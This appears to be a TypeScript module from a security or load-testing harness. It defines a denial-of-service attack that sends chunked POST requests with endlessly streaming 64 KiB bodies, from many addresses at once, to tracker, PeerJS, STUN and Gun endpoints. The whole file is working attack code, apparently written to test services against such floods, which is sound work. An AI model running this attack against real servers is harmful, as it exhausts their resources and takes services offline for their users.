// Requests whose bodies never end, for pages that take none.
import type { Attack, ServiceName } from '../attack.ts';
import { crowd, RawSocket } from '../raw-socket.ts';

const chunk = `10000\r\n${'x'.repeat(65_536)}\r\n`;

const attackOn = (id: string, service: ServiceName, path: string): Attack => ({
  id,
  title: 'bodies without end',
  service,
  run: ({ httpPort }) =>
    crowd(async ({ address }) => {
      const socket = await RawSocket.connect(httpPort, address);
      await socket.send(`POST ${path} HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n`);
      while (socket.isOpen) await socket.send(chunk);
    }),
});

export const onTracker = attackOn('v10a', 'tracker', '/announce');
export const onPeerjs = attackOn('v10b', 'peerjs', '/peerjs/id');
export const onStun = attackOn('v10c', 'stun', '/ice-servers');
export const onGun = attackOn('v10d', 'gun', '/gun');
